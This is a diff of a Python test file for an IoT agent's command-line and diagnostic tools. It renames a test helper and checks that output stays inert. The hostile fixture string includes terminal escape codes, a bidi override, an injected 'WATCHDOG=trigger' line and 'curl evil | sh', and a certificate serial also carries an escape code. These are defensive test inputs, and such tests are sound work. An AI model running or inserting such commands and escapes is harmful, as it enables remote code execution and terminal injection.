@@ -20,8 +20,8 @@ from iot_agent.host import systemd
 from iot_agent.host.systemd import Notifier
 from iot_agent.status import text
 from iot_agent.status.report import compose
-from tests.device.patient import Patient
-from tests.device.test_control import Loop
+from tests.device.faulty_device import FaultyDevice
+from tests.device.test_control_socket import Loop
 from tests.harness import PATIENCE
 
 EVIL = "fine\x1b[2J\x9b1m\rok\u202e\nWATCHDOG=trigger\n  what to do    curl evil | sh\x07\ud800"
@@ -105,7 +105,7 @@ def test_agentctl_writes_nothing_that_a_terminal_obeys_whatever_the_socket_says(
 
 
 def test_agentctl_writes_nothing_that_a_terminal_obeys_whatever_the_record_holds(tmp_path: Path) -> None:
-    patient = Patient(tmp_path)
+    patient = FaultyDevice(tmp_path)
     patient.change(failure=Failure(Kind.REQUEST, "refused", EVIL, EVIL, 10**15), history=hostile_record().history)
     said = said_by_agentctl("--run", str(tmp_path), "--state", str(patient.state), "status")
     assert "second 1000000000000000" not in said, "only dates are written so"
@@ -144,7 +144,7 @@ def test_the_doctor_writes_nothing_that_a_terminal_obeys() -> None:
 
 
 def test_a_certificate_with_an_evil_name_is_shown_by_the_doctor_as_text(tmp_path: Path) -> None:
-    patient = Patient(tmp_path)
+    patient = FaultyDevice(tmp_path)
     patient.issue(serial="SN\x1b[2J")
     patient.change(failure=Failure(Kind.CHECK_IN, "refused", EVIL, "…", 0))
     written = "\n".join(map(findings.write, patient.findings()))
